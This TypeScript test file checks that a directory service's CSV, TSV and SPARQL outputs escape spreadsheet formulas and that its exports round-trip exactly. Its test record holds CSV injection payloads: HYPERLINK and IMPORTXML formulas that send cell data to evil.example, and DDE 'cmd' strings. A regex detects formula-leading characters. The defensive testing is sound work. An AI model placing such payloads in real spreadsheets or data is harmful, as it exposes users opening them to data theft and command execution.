/**
 * Outputs that are safe to open (issue 10 item 6), on both stores: a record whose texts are
 * spreadsheet formulas (`=`, `+`, `-`, `@`, as OWASP lists them) comes out of every CSV essfed
 * writes — the dump, the query API, `essfed export`, SPARQL CSV and TSV — with no cell a
 * spreadsheet would run, while an ordinary request is answered; importing the export elsewhere
 * gives back the exact texts, a legitimate leading apostrophe included.
 */
import { afterAll, beforeAll, describe, expect, it } from "@jest/globals";
import { parse } from "csv-parse/sync";
import { Parser } from "n3";
import { exportAll } from "../../src/exporters/export.ts";
import { bufferSource, importSource } from "../../src/importers/import.ts";
import type { InitiativeDraft } from "../../src/domain/validate.ts";
import { startInstance, type TestInstance } from "../support/instance.ts";
import { alongside } from "../support/remote-site.ts";
import { databaseUrl, dropSchema, randomSchema } from "../support/postgres.ts";
import { describePostgres } from "../support/describe-postgres.ts";

/** Texts a spreadsheet would run, and some it must keep as they are. */
const HOSTILE: Omit<InitiativeDraft, "id"> = {
  name: '=HYPERLINK("http://evil.example/?leak="&A2,"Click for details")',
  description: "+cmd|' /C calc'!A0",
  address: {
    streetAddress: "'s-Hertogenbosch Road",
    locality: "@SUM(1+1)*cmd|' /C calc'!A0",
    postcode: "=1+1",
    lat: 53.8,
    long: -1.5477,
  },
  phone: "+44 113 496 0000",
  sector: "-2+3+cmd|' /C calc'!A0",
  ownership: "'=already neutralised by hand",
  translations: { fr: { name: '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")' } },
};
const FORMULA = /^[=+\-@\t\r]/;
const NEGATIVE_DECIMAL = /^-\d+(\.\d+)?$/;

/** Every cell of a CSV text that a spreadsheet would run (none, we expect). */
function runnable(csv: string): string[] {
  const rows = parse(csv, { relax_column_count: true });
  return rows.flat().filter((c) => FORMULA.test(c) && !NEGATIVE_DECIMAL.test(c));
}

/** @param env the environment of the instance under test (0) and of the one importing its export (1) */
function describeCsvOutputs(
  title: string,
  env: (n: 0 | 1) => Record<string, string>,
  after: () => Promise<void> = async () => {},
): void {
  let inst: TestInstance;
  let other: TestInstance;
  let id: string;

  beforeAll(async () => {
    [inst, other] = await Promise.all([startInstance(env(0)), startInstance(env(1))]);
    id = inst.iris.initiative("formulas");
    const [r] = await inst.directory.upsert([{ ...HOSTILE, id }]);
    if (!r?.ok) throw new Error(`the hostile record does not validate: ${JSON.stringify(r)}`);
  }, 60_000);
  afterAll(async () => {
    await Promise.all([inst?.stop(), other?.stop()]);
    await after();
  });

  async function get(path: string, accept = "*/*"): Promise<string> {
    const r = await alongside(inst, () => fetch(`${inst.base}${path}`, { headers: { accept } }));
    expect(r.ordinary).toBe(200);
    expect(r.hostile.status).toBe(200);
    return r.hostile.text();
  }

  // eslint-disable-next-line jest/valid-title -- the title is the caller's
  describe(title, () => {
    it("the CSV dump has no cell a spreadsheet would run, and shows the formulas as text.", async () => {
      const csv = await get("/dumps/initiatives.csv");
      expect(runnable(csv)).toEqual([]);
      expect(csv).toContain("'=HYPERLINK(");
      expect(csv).toContain("'+44 113 496 0000");
      expect(csv).toContain(",-1.5477,"); // a longitude stays a number
    });

    it("the query API's CSV has no cell a spreadsheet would run.", async () => {
      const csv = await get("/api/initiatives?format=csv");
      expect(runnable(csv)).toEqual([]);
      expect(csv).toContain("'@SUM(1+1)");
    });

    it("essfed export --format csv has no cell a spreadsheet would run.", async () => {
      let csv = "";
      for await (const chunk of exportAll(inst, "csv")) csv += chunk;
      expect(runnable(csv)).toEqual([]);
      expect(csv).toContain("''=already neutralised by hand");
    });

    it("SPARQL CSV results have no cell a spreadsheet would run, stored values or ones the query makes up.", async () => {
      const query = `SELECT ?v ?made WHERE { <${id}> ?p ?v . BIND("=1+1" AS ?made) }`;
      const csv = await get(`/sparql?query=${encodeURIComponent(query)}`, "text/csv");
      expect(runnable(csv)).toEqual([]);
      expect(csv).toContain("'=1+1");
    }, 90_000);

    it("SPARQL TSV results escape a formula's first character, so the terms read back the same and no cell starts a formula.", async () => {
      const query =
        `SELECT ?v WHERE { { <${id}> ?p ?v } UNION { BIND("=1+1" AS ?v) } UNION { ` +
        `BIND("-5"^^<http://www.w3.org/2001/XMLSchema#integer> AS ?v) } }`;
      const tsv = await get(`/sparql?query=${encodeURIComponent(query)}`, "text/tab-separated-values");
      const cells = tsv
        .trim()
        .split("\n")
        .slice(1)
        .flatMap((l) => l.split("\t"))
        .filter(Boolean);
      const values: string[] = [];
      for (const cell of cells) {
        // What a spreadsheet sees once it takes the quotes off a quoted cell.
        expect(cell.replace(/^"/, "")).not.toMatch(FORMULA);
        const [q] = new Parser({ format: "N-Triples" }).parse(`<urn:s> <urn:p> ${cell} .`);
        values.push(q!.object.value);
      }
      expect(values).toEqual(expect.arrayContaining([HOSTILE.name, HOSTILE.sector, "=1+1", "-5"]));
    }, 90_000);

    it("importing the export gives back every text exactly, leading apostrophes and formulas included.", async () => {
      const csv = await get("/dumps/initiatives.csv");
      const report = await importSource(bufferSource("export.csv", csv), other.directory, other.iris);
      expect([report.created, report.refusedRecords, report.warnings]).toEqual([1, 0, []]);
      const back = (await other.store.getInitiative(other.iris.initiative("formulas")))!.initiative;
      const held = (await inst.store.getInitiative(id))!.initiative;
      expect({ ...back, id: held.id }).toEqual(held);
      expect(back.ownership).toBe("'=already neutralised by hand");
      expect(back.address?.streetAddress).toBe("'s-Hertogenbosch Road");
    });
  });
}

describeCsvOutputs("CSV outputs from SQLite", () => ({}));

describePostgres("CSV outputs from PostgreSQL", () => {
  const schemas = [randomSchema("csv"), randomSchema("csv")] as const;
  describeCsvOutputs(
    "are safe to open",
    (n) => ({ DATABASE_URL: databaseUrl(schemas[n]) }),
    async () => {
      for (const s of schemas) await dropSchema(s);
    },
  );
});
